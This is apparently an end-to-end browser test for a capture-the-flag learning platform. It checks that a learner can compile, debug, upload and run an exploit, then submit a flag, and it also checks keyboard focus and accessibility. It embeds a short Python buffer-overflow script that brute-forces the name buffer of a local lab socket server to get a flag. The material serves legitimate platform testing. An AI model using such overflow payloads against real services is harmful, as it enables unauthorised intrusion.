import type { Browser, Page } from 'playwright-core';
import { beforeAll, expect, it } from 'vitest';
import { AxeOnce, findingsInBothThemes } from './support/axe.ts';
import { newVisitor, openBrowser } from './support/browser.ts';
import { openAs } from './support/learner.ts';
import { author } from './support/map-editor.ts';
import { type Platform, sharedPlatform } from './support/platform.ts';

/** A lab with a shell, by keyboard in a browser: the learner compiles, debugs, exploits its socket and solves it. */

const axe = new AxeOnce();
let browser: Browser;
let platform: Platform;
beforeAll(async () => {
  [browser, platform] = await Promise.all([openBrowser(), sharedPlatform()]);
});

/** Overflows the name buffer by one byte at a time until the lamp server accepts the attacker as its master. */
const attack = `
import re, socket

def send(payload):
    client = socket.socket(socket.AF_UNIX)
    client.connect('/lamp/lamp.sock')
    response = b''
    try:
        client.sendall(payload)
        client.shutdown(socket.SHUT_WR)
        while chunk := client.recv(4096):
            response += chunk
    except OSError:
        pass
    return re.search(rb'flag{[^}]+}', response)

for length in range(1, 200):
    if found := send(b'1\\n' + b'A' * length + b'\\x07\\n'):
        print('found', found.group().decode())
        break
`;

/** Text of the terminal, line by line. */
const screen = (page: Page) => page.locator('.xterm-rows').first().innerText();

/** Types a line and waits until the terminal shows the expected output. */
async function type(page: Page, line: string, until: RegExp): Promise<string> {
  await page.keyboard.type(`${line}\n`);
  await expect.poll(() => screen(page)).toMatch(until);
  return screen(page);
}

it('a learner compiles, debugs, exploits and solves it in the browser, and sees when the files are saved', async () => {
  // The lab requires a tier that a new learner does not have.
  const account = await author(platform, 'lampwright');
  const { page, context, errors } = await newVisitor(browser, { width: 1440, height: 900 });
  await openAs(page, platform, account, '/lab/lamplighter');
  await page.getByRole('button', { name: 'Start lab' }).click();
  await expect.poll(() => screen(page)).toContain('learner@lamplighter:~$');

  // The terminal has the focus at once.
  await type(
    page,
    `printf 'int main(void) { return 42; }' > answer.c && gcc -o answer answer.c; ./answer; echo "says $?"`,
    /says 42/,
  );
  await type(page, `gdb -batch -ex 'break take_order' -ex 'info line light_all' lamp`, /Line \d+ of "\S*lamp\.c"/);
  await page.getByRole('tab', { name: 'Files' }).click();
  await page.getByLabel('Files to upload to your home').setInputFiles({
    name: 'attack.py',
    mimeType: 'text/x-python',
    buffer: Buffer.from(attack),
  });
  // The file is listed before it is in the home.
  await page.getByRole('list', { name: 'Uploads' }).getByText('Uploaded').waitFor();
  await page.locator('.xterm').first().click();
  const shown = await type(page, 'clear; python3 attack.py', /flag\{[^}]+\}/);
  const [flag = ''] = /flag\{[^}]+\}/.exec(shown.replace(/\n/g, '')) ?? [];

  // Tab belongs to the shell; F6 leaves it.
  await page.keyboard.press('Tab');
  expect(await page.evaluate(() => document.activeElement?.closest('.xterm') !== null)).toBe(true);
  await page.keyboard.press('F6');
  expect(await page.evaluate(() => document.activeElement?.closest('.xterm') ?? null)).toBeNull();

  await page.getByRole('textbox', { name: 'The flag that you found' }).fill(flag);
  await page.keyboard.press('Enter');
  await page.getByText('1 of 3 found').waitFor();
  expect(await findingsInBothThemes(page, axe)).toEqual([]);

  // main-journey.test.ts checks that a saved file survives a power cut.
  await page.locator('.xterm').first().click();
  const saved = page.locator('time', { hasText: /^Saved/ });
  const before = await saved.getAttribute('datetime');
  await type(page, 'echo kept > proof.txt; clear; ls', /proof\.txt/);
  await expect.poll(() => saved.getAttribute('datetime')).not.toBe(before);
  expect(errors).toEqual([]);
  await context.close();
});
